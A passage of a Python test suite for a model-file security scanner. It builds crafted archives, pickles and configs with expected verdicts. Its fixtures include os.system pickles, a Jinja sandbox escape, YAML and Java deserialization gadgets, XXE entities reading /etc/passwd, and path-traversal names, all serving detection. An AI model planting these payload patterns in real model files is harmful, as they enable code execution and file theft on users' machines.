"""Containers and formats, told by content: what each may hide, and its harmless twin. Nothing is loaded."""

from __future__ import annotations

import base64
import bz2
import gzip
import json
import lzma
import struct
import zipfile
import zlib
from typing import Any

import pytest

from tests.artifacts import containers as make
from tests.artifacts.assembly import assemble
from tests.artifacts.containers import EVIL, TENSORS
from tests.artifacts.looking import DANGEROUS, NOTHING, SUSPICIOUS, inspect, said

CHATML = "{% for message in messages %}{{ '<|im_start|>' + message['role'] + '\n' + message['content'] }}{% endfor %}"
ESCAPE = "{{ cycler.__init__.__globals__.os.popen('true').read() }}"
EVIL_CALL = "'os' 'system' stack ('true',) call"


def flipped(data: bytes, local: int, central: int, mask: int) -> bytes:
    """A byte of each local header and of each entry of the directory, changed."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", local), (b"PK\x01\x02", central)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] ^= mask
            at = out.find(signature, at + 4)
    return bytes(out)


def exported(targets: list[str], expression: str = "s0") -> bytes:
    """What torch.export writes, as far as it is looked at."""
    graph = {"nodes": [{"target": target, "inputs": [], "outputs": []} for target in targets], "sym_int_values": {"s": {"as_expr": {"expr_str": expression}}}}
    return make.zipped([("m/archive_format", b"pt2"), ("m/models/model.json", json.dumps({"graph_module": {"graph": graph}}).encode())])


TORCH_EVIL = make.torch_zip(EVIL)
SAFE_BODY = b"\0" * 8
LZ4_FRAME = b"\x04\x22\x4d\x18\x60\x40\x82" + struct.pack("<I", len(EVIL) | 0x80000000) + EVIL + b"\0\0\0\0"
EXTERNAL_LINK = b"\x01\x08\x40\x04link" + struct.pack("<H", 16) + b"\0other.h5\0/path\0"

PADDLE = b"\x0a\x0f\x08\x00\x10\x00\x22\x09\x1a\x07%s"
"""A program of one block with one operator, whose name has seven letters."""

TEMPLATES = (
    "{{ ''[dict(__cla=1,ss__=2)|join] }}",
    "{{ ''['ssalc__'|reverse] }}",
    "{{ ''['%5f%5fclass%5f%5f'|urldecode] }}",
    "{{ x[a+'class'+a] }}",
    "{{ x['__in'+'it__'] }}",
    "{{ messages|map('attr','x') }}",
    "{% set u=(()|select|string|list)[24] %}",
)
CASES: list[tuple[str, bytes, str, Any, str]] = [  # what it is, the bytes, the file's name, the verdict, words of a remark or of the format
    ("a torch zip", make.torch_zip(), "w.pt", NOTHING, "torch zip"),
    ("a torch zip with a payload", TORCH_EVIL, "w.safetensors", DANGEROUS, "archive/data.pkl at"),
    ("packed members", make.torch_zip(EVIL, method=zipfile.ZIP_DEFLATED), "w.pt", DANGEROUS, "os.system"),
    ("members of bzip2", make.torch_zip(EVIL, method=zipfile.ZIP_BZIP2), "w.pt", DANGEROUS, "os.system"),
    ("members of lzma", make.torch_zip(EVIL, method=zipfile.ZIP_LZMA), "w.pt", DANGEROUS, "os.system"),
    ("checksums that are wrong", flipped(TORCH_EVIL, 14, 16, 0xFF), "w.pt", DANGEROUS, "os.system"),
    ("flags that say encrypted", flipped(TORCH_EVIL, 6, 8, 0x01), "w.pt", DANGEROUS, "marked as encrypted"),
    ("local names that differ", TORCH_EVIL.replace(b"archive/data.pkl", b"archive/datap.kl", 1), "w.pt", DANGEROUS, "at its own place"),
    ("a damaged first member", make.torch_zip(EVIL).replace(b"PK\x03\x04", b"PK\x03\x05", 1), "w.pt", DANGEROUS, "os.system"),
    ("a member that is there twice", make.zipped([("a/data.pkl", EVIL), ("a/data.pkl", TENSORS)]), "w.pt", DANGEROUS, "twice"),
    ("a hidden member", make.torch_zip(more=(("archive/.cache", EVIL),)), "w.pt", DANGEROUS, ".cache"),
    ("a pickle before a zip", EVIL + make.torch_zip(), "w.pt", DANGEROUS, "pickle and a zip archive in one file"),
    ("a pickle behind a zip", make.torch_zip() + EVIL, "w.pkl", DANGEROUS, "outside the archive"),
    ("bytes before a zip", b"\0" * 64 + TORCH_EVIL, "w.pt", DANGEROUS, "os.system"),
    ("another directory in the comment", TORCH_EVIL[:-2] + struct.pack("<H", 30) + b"PK\x05\x06" + b"\0" * 26, "w.pt", DANGEROUS, "more than one directory"),
    ("an archive behind one of the same lengths", make.torch_zip(EVIL.ljust(len(TENSORS), b"\0")) + make.torch_zip(), "w.pt", DANGEROUS, "more than one directory"),
    ("an archive before one of the same lengths", make.torch_zip() + make.torch_zip(EVIL.ljust(len(TENSORS), b"\0")), "w.pt", DANGEROUS, "os.system"),
    ("a zip that was cut off", make.torch_zip()[:-80], "w.pt", SUSPICIOUS, "cut off"),
    ("a zip of a zip of a zip", make.zipped([("x.zip", make.zipped([("y.zip", TORCH_EVIL)]))]), "x.zip", DANGEROUS, "x.zip > y.zip"),
    ("a harmless zip within a zip", make.zipped([("a.txt", b"x"), ("y.zip", make.torch_zip())]), "x.zip", NOTHING, "zip"),
    ("a name that leaves the folder", make.zipped([("../../x", b"x")]), "x.zip", DANGEROUS, "outside the folder"),
    ("a pickle in zstd data, as it is", b"\x28\xb5\x2f\xfd\x04\0\xc9\0\0" + EVIL + b"\0\0\0\0", "m.zst", DANGEROUS, "zstd: calls os.system"),
    ("an archive of ar", b"!<arch>\n" + b"m.pkl/".ljust(16) + b"0".ljust(32) + str(len(EVIL)).encode().ljust(10) + b"`\n" + EVIL, "m.deb", DANGEROUS, "m.pkl"),
    ("a library for linkers", b"!<arch>\n" + b"a.o/".ljust(16) + b"0".ljust(32) + b"8".ljust(10) + b"`\n" + b"\x7fELF\2\1\1\0", "m.a", NOTHING, "ar archive"),
    ("a pickle in a comment", make.zipped([("a.csv", b"1")])[:-2] + struct.pack("<H", len(EVIL)) + EVIL, "data.zip", DANGEROUS, "in a comment"),
    ("a pickle in an extra field", make.zipped([("a.csv", b"1")], extra=struct.pack("<HH", 0xCAFE, len(EVIL)) + EVIL), "data.zip", DANGEROUS, "extra field"),
    ("an ordinary comment", make.zipped([("a.csv", b"1")])[:-2] + struct.pack("<H", 40) + b"made by a tool that says so at length !!", "data.zip", NOTHING, "zip"),
    ("data", make.zipped([("a.csv", b"x,y\n1,2\n")]), "data.zip", NOTHING, "zip"),
    ("TorchScript that writes", make.zipped([("m/data.pkl", TENSORS), ("m/constants.pkl", b"\x80\x02)."), ("m/code/__torch__.py", b"def forward(self, x: Tensor):\n  ops.aten.save([x], 'f')\n")]), "m.pt", DANGEROUS, "TorchScript that reaches files"),
    ("TorchScript with operators of its own", make.zipped([("m/data.pkl", TENSORS), ("m/constants.pkl", b"\x80\x02)."), ("m/code/__torch__.py", b"def forward(self, x: Tensor):\n  return ops.mine.run(x)\n")]), "m.pt", DANGEROUS, "operators of mine"),
    ("a configuration that trusts for others", b'{"model_type": "lightglue", "trust_remote_code": true}', "config.json", SUSPICIOUS, "switches trust_remote_code on"),
    ("TorchScript", make.zipped([("m/data.pkl", assemble("global __torch__ M emptytuple newobj {'training': True} build", proto=2)), ("m/constants.pkl", b"\x80\x02)."), ("m/code/__torch__.py", b"class M(Module):\n  training : bool\n  def forward(self: __torch__.M, x: Tensor) -> Tensor:\n    return torch.add(x, x)\n")]), "m.pt", NOTHING, "TorchScript"),
    ("a model for mobile devices", make.zipped([("m/data.pkl", TENSORS), ("m/bytecode.pkl", assemble("(6, ('__torch__.M.forward', ('operators', ('aten::add', 'Tensor'))))"))]), "m.ptl", NOTHING, "torch zip"),
    ("a model for mobile devices that reads", make.zipped([("m/data.pkl", TENSORS), ("m/bytecode.pkl", assemble("(6, ('__torch__.M.forward', ('operators', ('aten::from_file', ''))))"))]), "m.ptl", DANGEROUS, "aten::from_file"),
    ("a model for mobile devices with operators of its own", make.zipped([("m/data.pkl", TENSORS), ("m/bytecode.pkl", assemble("(6, ('operators', ('mine::run', '')))"))]), "m.ptl", DANGEROUS, "operators of mine"),
    ("an exported graph", exported(["torch.ops.aten.add.Tensor", "_operator.getitem", "torch.sym_int", "torch.ops.higher_order.cond"], "2*s0 + Max(1, u0)"), "m.pt2", NOTHING, "zip"),
    ("an exported graph with an expression", exported([], "__import__('os').system('true')"), "m.pt2", DANGEROUS, "an expression that is evaluated"),
    ("an exported graph that writes", exported(["torch.ops.aten.save.default"]), "m.pt2", DANGEROUS, "reaches files"),
    ("an exported graph that calls", exported(["torch.os.system"]), "m.pt2", DANGEROUS, "torch.os.system called"),
    ("an exported graph with operators of its own", exported(["torch.ops.mine.run.default"]), "m.pt2", DANGEROUS, "operators of mine"),
    ("a distributed checkpoint", make.torch_zip() * 3, "__0_0.distcp", NOTHING, "distributed checkpoint"),
    ("a distributed checkpoint with a payload", make.torch_zip() + make.torch_zip(EVIL) + make.torch_zip(), "__0_0.distcp", DANGEROUS, "item 1"),
    ("a distributed checkpoint with bytes between", make.torch_zip() + EVIL + make.torch_zip(), "__0_0.distcp", DANGEROUS, "os.system"),
    ("a tar whose first name is a stream", make.tarred([("cos\nsystem\n(S'true'\ntR.", b"x")]), "x.tar", DANGEROUS, "os.system"),
    ("Arrow", b"ARROW1\0\0" + b"\0" * 40 + b"ARROW1", "a.arrow", NOTHING, "Arrow"),
    ("Arrow with a type that is a pickle", make.arrow(EVIL), "a.feather", DANGEROUS, "os.system"),
    ("Parquet with a pickle in a column", b"PAR1" + b"\x15\0" * 8 + EVIL + b"\0" * 20 + b"PAR1", "a.parquet", DANGEROUS, "in a column"),
    ("Parquet with a packed pickle in a column", b"PAR1" + gzip.compress(b"\x19\0\0\0" + EVIL) + b"\0" * 20 + b"PAR1", "a.parquet", DANGEROUS, "in a column"),
    ("Parquet with a harmless pickle in a column", b"PAR1" + b"\x15\0" * 8 + TENSORS + b"\0" * 20 + b"PAR1", "a.parquet", NOTHING, "Parquet"),
    ("an HDF5 file with a packed pickle", b"\x89HDF\r\n\x1a\n" + bytes(100) + zlib.compress(EVIL * 3) + bytes(20), "a.h5", DANGEROUS, "in a dataset"),
    ("Julia's values in HDF5", b"HDF5-based Julia Data Format, version 0.1.1\0".ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(80) + b"Core.eval" + bytes(20), "a.jld2", DANGEROUS, "values of Julia"),
    ("Julia's functions in HDF5", b"HDF5-based Julia Data Format, version 0.1.1\0".ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(80) + b"Core.CodeInfo" + bytes(20), "a.jld2", SUSPICIOUS, "Core.CodeInfo"),
    ("Julia's numbers in HDF5", b"HDF5-based Julia Data Format, version 0.1.1\0".ljust(512, b"\0") + b"\x89HDF\r\n\x1a\n" + bytes(80) + b"Core.Float64" + bytes(20), "a.jld2", NOTHING, "JLD2"),
    ("Parquet with a type that is a pickle", make.parquet(EVIL), "a.parquet", DANGEROUS, "os.system"),
    ("Parquet with a type that is a harmless pickle", make.parquet(TENSORS), "a.parquet", SUSPICIOUS, "before 14.0.1"),
    ("a tar of torch's", make.tarred([("sys_info", b"\x80\x02}."), ("pickle", TENSORS), ("storages", EVIL), ("tensors", b"\x80\x02K\0.")]), "w.pt", DANGEROUS, "storages"),
    ("a tar with a link out", make.tarred([("link", "/etc"), ("link/x", b"x")]), "x.tar", DANGEROUS, "through a link"),
    ("a tar with a link to another of its files", make.tarred([("d/e/latest.pkl", "../model.pkl"), ("d/model.pkl", TENSORS)]), "x.tar", NOTHING, "tar"),
    ("a tar with a link that leaves by many steps", make.tarred([("d/latest.pkl", "e/../../../model.pkl")]), "x.tar", DANGEROUS, "outside the archive"),
    ("a zip with a link to another of its files", make.zipped_link("d/w.bin", "../v.bin", zipfile.ZIP_DEFLATED), "x.zip", NOTHING, "zip"),
    ("a zip with a link out", make.zipped_link("w.bin", "/etc/passwd"), "x.zip", DANGEROUS, "outside the archive"),
    ("a zip with a link whose target is long", make.zipped_link("w.bin", "a/" * 5_000 + "../" * 5_001 + "x", zipfile.ZIP_DEFLATED), "x.zip", DANGEROUS, "outside the archive"),
    ("a tar that leaves the folder", make.tarred([("../x", b"x")], "w:gz"), "x.tar.gz", DANGEROUS, "outside the folder"),
    ("a tar", make.tarred([("d/a.txt", b"x"), ("d/b.bin", b"\0" * 100)]), "x.tar", NOTHING, "tar"),
    ("NeMo that calls", make.tarred([("./model_config.yaml", b"pre:\n  _target_: os.system\n  command: 'true'\n")]), "m.nemo", DANGEROUS, "_target_ has os.system called"),
    ("NeMo", make.tarred([("./model_config.yaml", b"pre:\n  _target_: nemo.collections.asr.modules.Featurizer\n"), ("./model_weights.ckpt", make.torch_zip())]), "m.nemo", NOTHING, "NeMo"),
    ("gzip", gzip.compress(EVIL), "m.pkl.gz", DANGEROUS, "os.system"),
    ("gzip twice", gzip.compress(gzip.compress(EVIL)), "m.pkl", DANGEROUS, "gzip > gzip"),
    ("two members of gzip", gzip.compress(b"x" * 100) + gzip.compress(EVIL), "m.gz", DANGEROUS, "os.system"),
    ("zlib", zlib.compress(EVIL), "m.joblib", DANGEROUS, "os.system"),
    ("bzip2", bz2.compress(EVIL), "m.pkl", DANGEROUS, "os.system"),
    ("xz", lzma.compress(EVIL), "m.pkl", DANGEROUS, "os.system"),
    ("lzma", lzma.compress(EVIL, lzma.FORMAT_ALONE), "m.pkl", DANGEROUS, "os.system"),
    ("lz4", LZ4_FRAME, "m.pkl", DANGEROUS, "os.system"),
    ("gzip that was cut off", gzip.compress(TENSORS)[:-20], "m.gz", SUSPICIOUS, "breaks off"),
    ("7z", b"7z\xbc\xaf\x27\x1c" + b"\0" * 40, "m.pt", SUSPICIOUS, "7z archive, which is not opened"),
    ("7z of a model", make.seven_zip([("a.txt", b"x" * 200), ("m/data.pkl", EVIL)]), "m.pt", DANGEROUS, "m/data.pkl"),
    ("7z, packed", make.seven_zip([("m/data.pkl", EVIL)], b"\x01\x21\x21\x01\x18", lzma.compress(EVIL, lzma.FORMAT_RAW, filters=[{"id": lzma.FILTER_LZMA2}])), "m.pt", DANGEROUS, "os.system"),
    ("7z, packed by bzip2", make.seven_zip([("m/data.pkl", EVIL)], b"\x01\x03\4\2\2", bz2.compress(EVIL)), "m.7z", DANGEROUS, "os.system"),
    ("7z, packed by what is not known", make.seven_zip([("m/data.pkl", EVIL)], b"\x01\x03\3\4\1"), "m.7z", SUSPICIOUS, "not opened"),
    ("7z that leaves the folder", make.seven_zip([("../x", b"x")]), "m.7z", DANGEROUS, "outside the folder"),
    ("7z of data", make.seven_zip([("a.txt", b"x" * 200), ("b.pkl", TENSORS)]), "m.7z", NOTHING, "7z"),
    ("7z that breaks off", make.seven_zip([("a.txt", b"x" * 200), ("b.pkl", TENSORS)])[:-9], "m.7z", SUSPICIOUS, "not opened"),
    ("npy", make.npy("'<f8'", b"\0" * 16), "a.npy", NOTHING, "npy"),
    ("npy of objects", make.npy("'|O'", EVIL), "a.npy", DANGEROUS, "os.system"),
    ("npy with a field of objects", make.npy("[('a', '<i4'), ('b', '|O')]", EVIL, version=2), "a.bin", DANGEROUS, "os.system"),
    ("npy with a pickle behind", make.npy("'<f8'", b"\0" * 16) + EVIL, "a.npy", DANGEROUS, "behind the array"),
    ("npy that was cut off", make.npy("'<f8'", b"\0" * 8), "a.npy", SUSPICIOUS, "breaks off"),
    ("npz", make.zipped([("a.npy", make.npy("'<f8'", b"\0" * 16))]), "a.npz", NOTHING, "npz"),
    ("npz of objects", make.zipped([("a", make.npy("'|O'", EVIL))]), "a.npz", DANGEROUS, "os.system"),
    ("joblib", make.joblib_dump("'y'"), "m.joblib", NOTHING, "joblib"),
    ("joblib with a payload behind an array", make.joblib_dump(EVIL_CALL), "m.joblib", DANGEROUS, "os.system"),
    ("joblib, packed", zlib.compress(make.joblib_dump(EVIL_CALL)), "m.joblib", DANGEROUS, "os.system"),
    ("joblib with an array that looks like a stream", make.joblib_dump(EVIL_CALL, (b"c" + b"A" * 30 + b".") * 2), "m.joblib", DANGEROUS, "os.system"),
    ("joblib with objects", make.joblib_dump("'y'", EVIL, 1, "O8"), "m.joblib", DANGEROUS, "os.system"),
    ("joblib in the middle of a frame", make.joblib_dump("'y'").replace(b"\x80\x04", b"\x80\x04\x95" + struct.pack("<Q", 900), 1), "m.joblib", SUSPICIOUS, "middle of a frame"),
    ("gzip with a name that leaves the folder", make.gzip_with_name("../../x"), "m.gz", DANGEROUS, "outside the folder"),
    ("gzip with a name", make.gzip_with_name("weights.bin"), "m.gz", NOTHING, "gzip"),
    ("a zip with another name that leaves the folder", make.zipped_with_another_name("a.bin", "../../x"), "x.zip", DANGEROUS, "../../x is unpacked outside"),
    ("a folder of a zip that has content", make.torch_zip(more=(("archive/extra/", EVIL),)), "w.pt", DANGEROUS, "os.system"),
    ("a folder of a zip", make.zipped([("a/", b""), ("a/b.txt", b"x")]), "x.zip", NOTHING, "zip"),
    ("a zip with another name", make.zipped_with_another_name("a.bin", "\u00e4.bin"), "x.zip", NOTHING, "zip"),
    ("Keras in UTF-32", make.keras_zip(json.dumps(make.keras_model(make.LAMBDA)).encode("utf-32")), "m.keras", DANGEROUS, "Lambda layer"),
    ("Keras in UTF-32 without a mark", make.keras_zip(json.dumps(make.keras_model(make.LAMBDA)).encode("utf-32-be")), "m.keras", DANGEROUS, "Lambda layer"),
    ("Keras with a class of Python's", make.keras_zip(make.keras_model({"module": "functools", "class_name": "partial", "config": {}})), "m.keras", DANGEROUS, "which is no layer"),
    ("MONAI that runs a program", b'{"run": ["$os.system(1)"]}', "inference.json", DANGEROUS, "MONAI evaluates"),
    ("MONAI", b'{"imports": ["$import os"], "device": "$torch.device(0)", "files": "$sorted(glob.glob(os.path.join(@dir, 1)))", "price": "$5"}', "inference.json", NOTHING, "JSON"),
    ("YAML with a tag of Python's in a second document", b"a: 1\n...\n%TAG !p! tag:yaml.org,2002:python/\n---\nx: !p!object/apply:os.system [x]\n", "c.yaml", DANGEROUS, "run by yaml.load"),
    ("YAML of two documents", b"a: 1\n---\nb: 2\n", "c.yaml", NOTHING, "YAML"),
    ("XML of objects of Java's", b'<?xml version="1.0"?><java class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder"/></java>', "m.xml", DANGEROUS, "a reader of Java's"),
    ("a query of Spark's that calls Java", b'{"class": "org.apache.spark.ml.feature.SQLTransformer", "paramMap": {"statement": "SELECT java_method(\'java.lang.Runtime\', \'x\') FROM __THIS__"}}', "part-00000", DANGEROUS, "calls methods of Java"),
    ("a query of Spark's", b'{"class": "org.apache.spark.ml.feature.SQLTransformer", "paramMap": {"statement": "SELECT a, (b) FROM __THIS__"}}', "part-00000", NOTHING, "JSON"),
    ("a configuration of Jackson's", b'{"layer": {"@class": "com.sun.rowset.JdbcRowSetImpl"}}', "configuration.json", DANGEROUS, "of Java's built"),
    ("linked data", b'{"@type": "Dataset", "@context": "https://schema.org"}', "croissant.json", NOTHING, "JSON"),
    ("arrays of Zarr's that are pickles", b'{"zarr_format": 2, "filters": [{"id": "pickle"}]}', ".zarray", SUSPICIOUS, "its parts are pickles"),
    ("names of things", b'{"categories": [{"id": 1, "name": "pickle"}]}', "labels.json", NOTHING, "JSON"),
    ("a template with a key put together by join", b"{% for m in messages %}{{ m[[p,p,'x']|join] }}{% endfor %}", "chat_template.jinja", DANGEROUS, "put together"),
    ("a template with keys", b"{% for m in messages %}{{ m['content']|join(', ') }}{{ tools[loop.index0] | tojson }}{{ names[m.role | lower] }}{% endfor %}", "chat_template.jinja", NOTHING, "Jinja"),
    ("safetensors", make.safetensors({"__metadata__": {"format": "pt"}, "a": make.tensor(0, 8)}, SAFE_BODY), "m.safetensors", NOTHING, "safetensors"),
    ("a header that is too long", make.safetensors({"a": make.tensor(0, 8)}, SAFE_BODY, 2**62), "m.safetensors", DANGEROUS, "header says"),
    ("tensors that overlap", make.safetensors({"a": make.tensor(0, 8), "b": make.tensor(4, 12)}, b"\0" * 12), "m.safetensors", DANGEROUS, "overlaps"),
    ("a gap between tensors", make.safetensors({"a": make.tensor(0, 8), "b": make.tensor(100, 108)}, b"\0" * 108), "m.safetensors", DANGEROUS, "belong to no tensor"),
    ("a tensor of another length", make.safetensors({"a": make.tensor(0, 10**9, [2])}, SAFE_BODY), "m.safetensors", DANGEROUS, "not what its shape comes to"),
    ("safetensors that were cut off", make.safetensors({"a": make.tensor(0, 80)}, SAFE_BODY), "m.safetensors", SUSPICIOUS, "ends 72 bytes before"),
    ("a key that is there twice", make.safetensors(b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]},"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}', SAFE_BODY), "m.safetensors", DANGEROUS, "twice"),
    ("a zip behind the tensors", make.safetensors({"a": make.tensor(0, 8)}, SAFE_BODY) + TORCH_EVIL, "m.safetensors", DANGEROUS, "os.system"),
    ("code in the metadata", make.safetensors({"__metadata__": {"n": "<script>x</script>"}, "a": make.tensor(0, 8)}, SAFE_BODY), "m.safetensors", DANGEROUS, "holds code"),
    ("GGUF", make.gguf([("general.name", "tiny"), ("tokenizer.ggml.tokens", ["eval", "__import__"]), ("tokenizer.chat_template", CHATML)]), "m.gguf", NOTHING, "GGUF"),
    ("GGUF with a template that reaches out", make.gguf([("tokenizer.chat_template.tool", ESCAPE)]), "m", DANGEROUS, "Python's own insides"),
    ("GGUF with too many entries", make.gguf([("a", "b")], count=2**62), "m.gguf", DANGEROUS, "overflow"),
    ("GGUF that was cut off", make.gguf([("a", "b"), ("general.name", "x")])[:-3], "m.gguf", SUSPICIOUS, "breaks off"),
    ("ONNX", make.onnx(), "m.onnx", NOTHING, "ONNX"),
    ("ONNX with data beside it", make.onnx("weights.bin"), "m.onnx", NOTHING, "ONNX"),
    ("ONNX with data elsewhere", make.onnx("a/../../../etc/passwd"), "m.onnx", DANGEROUS, "outside the model's folder"),
    ("ONNX with data at an absolute path", make.onnx("/etc/passwd"), "m.bin", DANGEROUS, "outside the model's folder"),
    ("ONNX with an operator of its own", make.onnx(domain="acme.custom", operation="Gelu"), "m.onnx", DANGEROUS, "native library"),
    ("ONNX with an operator that it defines", make.onnx(domain="own", operation="F", function_domain="own"), "m.onnx", NOTHING, "ONNX"),
    ("ONNX with a compiled part beside it", make.onnx(domain="com.microsoft", operation="EPContext", context="part.bin"), "m.onnx", NOTHING, "ONNX"),
    ("ONNX with a compiled part elsewhere", make.onnx(domain="com.microsoft", operation="EPContext", context="../part.bin"), "m.onnx", DANGEROUS, "compiled part"),
    ("ONNX with a Python operator of old", make.onnx(domain="pyop", operation="PyOp"), "m.onnx", DANGEROUS, "runs Python code"),
    ("ONNX with a Python operator", make.onnx(domain="ai.onnx.contrib", operation="PyOp"), "m.onnx", DANGEROUS, "runs Python code"),
    ("SavedModel", make.saved_model("Const", "MatMul", "SaveV2", "RestoreV2"), "saved_model.pb", NOTHING, "SavedModel"),
    ("SavedModel that writes", make.saved_model("Const", "WriteFile"), "saved_model.pb", DANGEROUS, "WriteFile"),
    ("SavedModel that calls Python in a function", make.saved_model("PartitionedCall", functions=("EagerPyFunc",)), "saved_model.pb", DANGEROUS, "EagerPyFunc"),
    ("SavedModel that prints to a file", make.saved_graph(make.graph_node("PrintV2", output_stream="file:///home/user/x")), "saved_model.pb", DANGEROUS, "PrintV2 (n) reaches file:///home/user/x"),
    ("SavedModel that prints", make.saved_graph(make.graph_node("PrintV2", output_stream="stderr")), "saved_model.pb", NOTHING, "SavedModel"),
    ("SavedModel with a description elsewhere", make.saved_graph(make.graph_node("DecodeProtoV2", descriptor_source="/etc/passwd")), "saved_model.pb", DANGEROUS, "reaches /etc/passwd"),
    ("SavedModel with a description within", make.saved_graph(make.graph_node("DecodeProtoV2", descriptor_source="bytes://x")), "saved_model.pb", NOTHING, "SavedModel"),
    ("SavedModel with an asset", make.saved_graph(make.graph_node("Placeholder"), asset="vocab.txt"), "saved_model.pb", NOTHING, "SavedModel"),
    ("SavedModel with an asset elsewhere", make.saved_graph(make.graph_node("Placeholder"), asset="../../x"), "saved_model.pb", DANGEROUS, "an asset is read from"),
    ("a checkpoint elsewhere", b'model_checkpoint_path: "../../x/ckpt-1"\n', "checkpoint", DANGEROUS, "a checkpoint is read from"),
    ("a checkpoint", b'model_checkpoint_path: "/data/run/ckpt-1"\nall_model_checkpoint_paths: "ckpt-1"\n', "checkpoint", NOTHING, ""),
    ("Caffe2", make.caffe2("Conv"), "init_net.pb", NOTHING, "Caffe2"),
    ("Caffe2 that calls Python", make.caffe2("Python"), "init_net.pb", DANGEROUS, "calls Python code"),
    ("Caffe2 that reads", make.caffe2("Load"), "init_net.pb", DANGEROUS, "reaches files"),
    ("MXNet that calls an address", b'{"nodes": [{"op": "_Native", "name": "n", "attrs": {"info": "0x41"}}]}', "m-symbol.json", DANGEROUS, "an address in memory"),
    ("ONNX that sends", make.message((1, 8), (7, make.message((1, make.message((1, "x"), (2, "y"), (4, "Run"), (5, make.message((1, "model_uri"), (4, "https://x.example"))), (7, "ai.onnx.contrib"))), (2, "g")))), "m.onnx", DANGEROUS, "is given the address"),
    ("ONNX with sparse numbers elsewhere", make.message((1, 8), (7, make.message((2, "g"), (15, make.message((1, make.message((1, 1), (2, 1), (8, "v"), (13, make.message((1, "location"), (2, "/etc/x"))), (14, 1))))))), (8, make.message((1, ""), (2, 17)))), "m.onnx", DANGEROUS, "outside the model's folder"),
    ("HDF5 with numbers of another file", make.virtual_dataset("/home/user/x.h5"), "m.weights.h5", DANGEROUS, "are taken from the file /home/user/x.h5"),
    ("HDF5 with numbers of its own put together", make.virtual_dataset("."), "m.weights.h5", NOTHING, "HDF5"),
    ("HDF5 of PyTables with a pickled attribute", make.hdf5(b"PYTABLES_FORMAT_VERSION", b"cos\nsystem\n(S'true'\ntR."), "m.h5", DANGEROUS, "os.system"),
    ("HDF5 of PyTables", make.hdf5(b"PYTABLES_FORMAT_VERSION", b"(dp0\nVname\np1\nVx\np2\ns."), "m.h5", NOTHING, "HDF5"),
    ("Keras with an operation that writes", make.keras_zip(make.keras_model({"class_name": "TensorFlowOpLayer", "config": {"node_def": 'name: "w"\nop: "WriteFile"\n'}})), "m.keras", DANGEROUS, "a layer is the operation WriteFile"),
    ("Keras with an operation", make.keras_zip(make.keras_model({"class_name": "TensorFlowOpLayer", "config": {"node_def": {"name": "w", "op": "Mul"}}})), "m.keras", NOTHING, "Keras"),
    ("Keras", make.keras_zip(make.keras_model(make.DENSE)), "m.keras", NOTHING, "Keras"),
    ("Keras with a Lambda", make.keras_zip(make.keras_model(make.DENSE, make.LAMBDA)), "m.keras", DANGEROUS, "Lambda layer"),
    ("Keras with a Lambda within", make.keras_zip(make.keras_model({"class_name": "TimeDistributed", "config": {"layer": make.LAMBDA}})), "m.bin", DANGEROUS, "Lambda layer"),
    ("Keras with bytecode in compile_config", make.keras_zip(make.keras_model(make.DENSE, compile_config={"loss": make.BYTECODE})), "m.keras", DANGEROUS, "bytecode"),
    ("Keras with escapes", make.keras_zip(json.dumps(make.keras_model(make.LAMBDA)).replace("Lambda", "\\u004cambda").encode()), "m.keras", DANGEROUS, "Lambda layer"),
    ("Keras that imports", make.keras_zip(make.keras_model({"module": "os", "class_name": "system", "config": {}})), "m.keras", DANGEROUS, "os.system"),
    ("Keras that names a function", make.keras_zip(make.keras_model({"module": "builtins", "class_name": "function", "config": "exec"})), "m.keras", DANGEROUS, "builtins.exec"),
    ("Keras that loads", make.keras_zip(make.keras_model({"module": "keras.layers", "class_name": "TorchModuleWrapper", "config": {}})), "m.keras", DANGEROUS, "torch.load"),
    ("Keras that writes by a function of TensorFlow's", make.keras_zip(make.keras_model({"class_name": "TFOpLambda", "config": {"function": "io.write_file"}})), "m.keras", DANGEROUS, "tf.io.write_file"),
    ("Keras with a function of TensorFlow's", make.keras_zip(make.keras_model({"class_name": "TFOpLambda", "config": {"function": "math.reduce_mean"}})), "m.keras", NOTHING, "Keras"),
    ("Keras in YAML with tags", b"class_name: Sequential\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: !!python/tuple [4wE=, null]}\n", "m.yaml", DANGEROUS, "Lambda layer"),
    ("Keras that reads a path", make.keras_zip(make.keras_model({"module": "keras.layers", "class_name": "StringLookup", "config": {"vocabulary": "/etc/passwd"}})), "m.keras", DANGEROUS, "/etc/passwd"),
    ("HDF5 with a Lambda", make.hdf5(json.dumps(make.keras_model(make.LAMBDA)).encode()), "m.weights", DANGEROUS, "Lambda layer"),
    ("HDF5", make.hdf5(json.dumps(make.keras_model(make.DENSE)).encode()), "m.h5", NOTHING, "Keras, HDF5"),
    ("HDF5 with a link to another file", make.hdf5(EXTERNAL_LINK), "m.h5", DANGEROUS, "other.h5"),
    ("HDF5 with a pickle", make.hdf5(EVIL), "m.h5", DANGEROUS, "in a dataset"),
    ("HDF5 behind a block of the user's", b"\0" * 512 + make.hdf5(json.dumps(make.keras_model(make.LAMBDA)).encode()), "m.h5", DANGEROUS, "Lambda layer"),
    ("Keras in UTF-16", make.keras_zip(json.dumps(make.keras_model(make.LAMBDA)).encode("utf-16")), "m.keras", DANGEROUS, "Lambda layer"),
    ("Keras in UTF-16 without a mark", make.keras_zip(json.dumps(make.keras_model(make.LAMBDA)).encode("utf-16-le")), "m.keras", DANGEROUS, "Lambda layer"),
    ("PMML in UTF-16", '<?xml version="1.0"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML/>'.encode("utf-16"), "m.pmml", DANGEROUS, "entity"),
    ("PMML with an entity far behind", b'<?xml version="1.0"?><!--' + b" " * 2_000_000 + b'--><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///x">]><PMML/>', "m.pmml", DANGEROUS, "entity"),
    ("skops", make.zipped([("schema.json", json.dumps({"__class__": "SVC", "__module__": "sklearn.svm._classes", "__loader__": "ObjectNode"}).encode())]), "m.skops", NOTHING, "skops"),
    ("skops with a built-in method", make.zipped([("schema.json", json.dumps({"__class__": "method_descriptor", "__module__": "builtins", "__loader__": "ObjectNode"}).encode())]), "m.skops", NOTHING, "skops"),
